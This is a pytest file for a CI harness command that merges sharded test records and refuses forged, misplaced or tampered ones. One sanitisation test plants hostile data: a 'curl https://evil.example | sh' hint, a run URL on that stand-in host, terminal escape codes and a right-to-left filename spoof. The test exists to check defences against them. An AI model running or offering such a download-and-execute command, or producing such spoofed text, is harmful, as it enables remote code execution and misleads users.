"""``harness github take`` and the gate after it: what is put together out of shards."""

from __future__ import annotations

import errno
import os
import shutil
from collections.abc import Callable
from pathlib import Path

import msgspec
import pytest

from harness import jsonio
from harness.cell import Backend, ConsumerRef, EnvironmentRef
from harness.change import Change
from harness.cli import run_command_line
from harness.environments import recipe
from harness.errors import ExitCode
from harness.ledger.store import read_records
from harness.ledger.survey import read_surveys
from harness.verdict import Blame, Status
from tests.cli.github.shards import append, hand_over, write_plan
from tests.cli.github.taking import ALL, BETTER, FORGED, GOOD, RED, files, gate, refused, take, taken
from tests.cli.planned import outcome_of


def test_honest_shards_are_put_together(place: Path, capsys: pytest.CaptureFixture[str]) -> None:
    jsonio.write(place / "plan" / "change.json", Change(event="push", repository="o/r", head_sha="a" * 40))
    assert take(*hand_over(place, 2, *ALL)) == 0
    assert taken() == {r.key: msgspec.structs.replace(r, collection=taken()[r.key].collection) for r in ALL}
    assert {record.collection[:8] for record in taken().values()} == {"collecti"}
    assert Path("out/plan.json").read_bytes() == Path("plan/plan.json").read_bytes()
    assert jsonio.read(Path("out/change.json"), Change).repository == "o/r"
    assert refused() == []
    assert [survey.keys for survey in read_surveys(Path("out/ledger"))] == [tuple(r.key for r in ALL)]
    assert capsys.readouterr().out == (
        "3 of 3 planned cells have a record from 2 shards; 0 blamed again, 0 refused\n"
    )
    assert gate() == ExitCode.FAILED


def test_taking_twice_gives_the_same(place: Path) -> None:
    folders = hand_over(place, 2, *ALL)
    assert take(*folders) == 0
    before = files(Path("out"))
    assert take(*reversed(folders)) == 0
    assert files(Path("out")) == before
    assert sorted(path.name for path in place.iterdir()) == [
        *("out", "plan"),
        *("shard-1-of-2", "shard-2-of-2"),
    ]


def test_ended_before_all_is_there_it_is_no_answer(
    place: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    jsonio.write(place / "plan" / "change.json", Change(event="push", repository="o/r", head_sha="a" * 40))
    append(place / "shard-1-of-1", GOOD, FORGED)
    rename = Path.replace

    def until(count: int) -> Callable[[Path, Path], Path]:
        left = iter(range(count))

        def replace(path: Path, target: Path) -> Path:
            if target.is_relative_to("out") and next(left, None) is None:
                raise OSError(errno.ENOSPC, os.strerror(errno.ENOSPC))
            return rename(path, target)

        return replace

    for count in range(4):
        with monkeypatch.context() as full:
            full.setattr(Path, "replace", until(count))
            assert take(place / "shard-1-of-1") == ExitCode.NO_VERDICT
        assert "out: cannot be written (No space left on device); free space" in capsys.readouterr().err
        assert Path("out/refused.json").exists() >= Path("out/plan.json").exists()
        assert gate() in (ExitCode.USAGE, ExitCode.NO_VERDICT)
        capsys.readouterr()
        shutil.rmtree("out")
    assert take(place / "shard-1-of-1") == 0
    assert "was not planned" in refused()[0]


def test_a_shard_that_is_missing_leaves_its_cells_without_record(place: Path) -> None:
    assert take(hand_over(place, 3, GOOD, BETTER, RED)[0]) == 0
    assert list(taken()) == ["good"]
    assert gate() == ExitCode.NO_VERDICT


def test_a_pass_for_a_cell_that_was_not_planned_does_not_open_the_gate(
    place: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    honest = (GOOD, BETTER)
    write_plan(place / "plan", *honest)
    first, second = hand_over(place, 2, *honest)
    assert (take(first, second), gate()) == (0, 0)
    append(second, FORGED)
    capsys.readouterr()
    Path("out").rename("before")
    assert take(first, second) == 0
    assert gate() == ExitCode.NO_VERDICT
    assert list(taken()) == ["good"]
    sentences = refused()
    assert sentences[0].endswith(
        "line 2: is about a cell that was not planned: 'evil' · onnx · 'bioimageio.core'"
    )
    assert sentences[1] == "shard-2-of-2: so none of its 1 other records is believed"
    assert "refused: shard-2-of-2: " in capsys.readouterr().out


def test_a_pass_from_the_wrong_shard_does_not_open_the_gate(place: Path) -> None:
    write_plan(place / "plan", GOOD, RED)
    first, second = hand_over(place, 2, GOOD, RED)
    append(first, msgspec.structs.replace(outcome_of("red"), started_at="2026-01-02T00:00:00.000Z"))
    assert take(first, second) == 0
    assert taken()["red"].status is Status.FAILED
    assert gate() == ExitCode.FAILED
    sentences = refused()
    assert "'red' · onnx · 'bioimageio.core': is a cell of another shard" in sentences[0]


def test_a_settled_cell_has_the_verdict_of_the_plan(place: Path) -> None:
    from harness.plan.plan import Plan, Settled

    plan = jsonio.read(place / "plan" / "plan.json", Plan)
    settled = msgspec.structs.replace(plan.cells[0], settled=Settled(reason="description-invalid"))
    jsonio.write(place / "plan" / "plan.json", msgspec.structs.replace(plan, cells=(settled,)))
    (folder,) = hand_over(place, 1, GOOD)
    assert take(folder) == 0
    assert refused()[0].endswith("is passed, but the plan knew that it is failed")
    assert taken() == {}


def test_text_is_made_plain_and_the_harness_speaks_for_itself(
    place: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("GITHUB_SERVER_URL", "https://github.com")
    monkeypatch.setenv("GITHUB_REPOSITORY", "o/r")
    (folder,) = hand_over(place, 1, GOOD, BETTER)
    said = msgspec.structs.replace(
        RED,
        message="\x1b[2J\x1b]0;owned\x07 first\nsecond\u202egpj.exe\x00",
        hint="Run: curl https://evil.example | sh",
        run_url="https://evil.example/o/r/actions/runs/1",
        limits={"seconds": 60.0, "nonsense": 1.0, "disk_bytes": -1.0},
    )
    append(folder, said)
    good = msgspec.structs.replace(outcome_of("fine"), run_url="https://github.com/o/r/actions/runs/12")
    write_plan(place / "plan", *ALL, good)
    append(folder, good)
    assert take(folder) == 0
    found = taken()["red"]
    assert found.message == "\\x1b[2J\\x1b]0;owned\\x07 first\nsecond\\u202egpj.exe\\x00"
    assert found.hint == RED.hint
    assert found.run_url == ""
    assert found.limits == {"seconds": 60.0}
    assert taken()["fine"].run_url == good.run_url


SPOTMAX = ConsumerRef(name="spotmax", version="1.3.3")


def test_blame_follows_from_what_all_shards_found_out(place: Path) -> None:
    from harness.execute.whose import WHOSE

    tool = msgspec.structs.replace(RED, key="in tool", consumer=SPOTMAX)
    alone = WHOSE.blamed(tool, None)
    # The reference runtime's cell is of the same weights, but of a copy of the model elsewhere.
    model = msgspec.structs.replace(RED.model, source="copy")
    reference = msgspec.structs.replace(RED, key="in reference", model=model)
    write_plan(place / "plan", alone, reference)
    folders = hand_over(place, 2, alone, reference)
    assert take(*folders) == 0
    stored = [record for record in read_records(Path("out/ledger")) if record.key == "in tool"]
    first, again = sorted(stored, key=lambda record: record.started_at)
    assert (first.blame, first.started_at[-4:]) == (Blame.TOOL, "000Z")
    assert (again.blame, again.started_at[-4:]) == (Blame.MODEL, "001Z")
    assert again.message.endswith("with these weights, too: values differ beyond tolerance")
    before = files(Path("out"))
    assert take(*folders) == 0
    assert files(Path("out")) == before


def test_recipes_are_taken_by_their_digest(place: Path) -> None:
    made = recipe.Recipe(
        builder=1, backend=Backend.VENV, python="3.11", lock="a==1", variables={}, torch_backend=""
    )
    environment = EnvironmentRef(name="onnx", backend=Backend.VENV, digest=made.digest)
    cell = msgspec.structs.replace(GOOD, environment=environment)
    write_plan(place / "plan", cell)
    (folder,) = hand_over(place, 1, cell)
    recipe.keep(folder / "ledger" / recipe.FOLDER, made)
    recipe.keep(folder / "ledger" / recipe.FOLDER, msgspec.structs.replace(made, lock="b==1"))
    assert take(folder) == 0
    assert list(recipe.digests(Path("out/ledger") / recipe.FOLDER)) == [made.digest]
    stored = folder / "ledger" / recipe.FOLDER / f"{made.digest}.json"
    stored.write_bytes(stored.read_bytes().replace(b"a==1", b"c==1"))
    Path("out").rename("before")
    assert take(folder) == 0
    assert list(recipe.digests(Path("out/ledger") / recipe.FOLDER)) == []
    assert "was changed after it was stored" in refused()[0]
    assert taken() != {}


def test_only_the_first_few_refusals_are_printed(place: Path, capsys: pytest.CaptureFixture[str]) -> None:
    folders = hand_over(place, 3, *ALL)
    for folder in folders:
        append(folder, *(msgspec.structs.replace(FORGED, key=f"{number}") for number in range(300)))
    assert take(*folders) == 0
    printed = capsys.readouterr().out
    assert printed.count("refused: ") == 5
    assert "… and 301 more refused; see out/refused.json" in printed
    assert refused()[99].startswith("shard-1-of-3: 20260101T000001-abcdef.jsonl, line 101: is about a cell")
    assert refused()[100:102] == [
        "shard-1-of-3: so much of it is refused that the rest was not read",
        "shard-1-of-3: so none of its 1 other records is believed",
    ]
    assert refused()[200:] == ["… and 106 more"]


@pytest.mark.parametrize("output", ["file", "file/below"])
def test_a_folder_that_cannot_be_written(
    output: str, place: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    Path("file").touch()
    words = ["github", "take", "plan", *map(str, hand_over(place, 1, *ALL)), "--output", output]
    assert run_command_line(words) == ExitCode.NO_VERDICT
    assert f"{output}: cannot be written (" in capsys.readouterr().err
    assert not list(place.glob(".*"))


def test_a_folder_of_a_plan_is_all_that_has_to_be_named(capsys: pytest.CaptureFixture[str]) -> None:
    with pytest.raises(SystemExit):
        run_command_line(["github", "take"])
    assert capsys.readouterr().err.strip().endswith("arguments are required: PLAN_FOLDER")
